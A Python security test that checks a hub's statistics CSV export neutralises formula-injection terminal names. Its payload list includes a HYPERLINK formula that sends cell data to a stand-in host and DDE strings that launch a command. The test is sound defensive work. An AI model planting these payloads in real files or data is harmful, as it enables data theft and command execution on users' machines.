"""Attack 5: CSV formula injection. A terminal enrolled under the name
``=HYPERLINK(…)`` reported a session; the statistics export must not hand
that name to a spreadsheet as a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from tests.security.attacked_hub import attacked_hub

EVIL_NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def test_stats_csv_escapes_formula_cells(tmp_path: Path) -> None:
    with attacked_hub(tmp_path) as hub, hub.client() as c:
        for i, name in enumerate(EVIL_NAMES):
            auth = hub.terminal(c, name=name)
            event = {
                "key": f"summary-{i}",
                "kind": "session_summary",
                "data": {"completed": True, "duration_s": 30, "service_id": name},
            }
            reply = c.post("/api/v1/terminal/events", json={"events": [event]}, headers=auth)
            assert reply.status_code == 200, reply.text
        hub.operator(c)
        reply = c.get("/console/stats.csv")
        assert reply.status_code == 200
        rows = list(csv.reader(io.StringIO(reply.text.lstrip("\ufeff"))))
    cells = [cell for row in rows for cell in row]
    for name in EVIL_NAMES:
        assert name not in cells, f"{name!r} exported as a live cell"
        assert "'" + name in cells, f"{name!r} not exported as text"
    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert dangerous == []
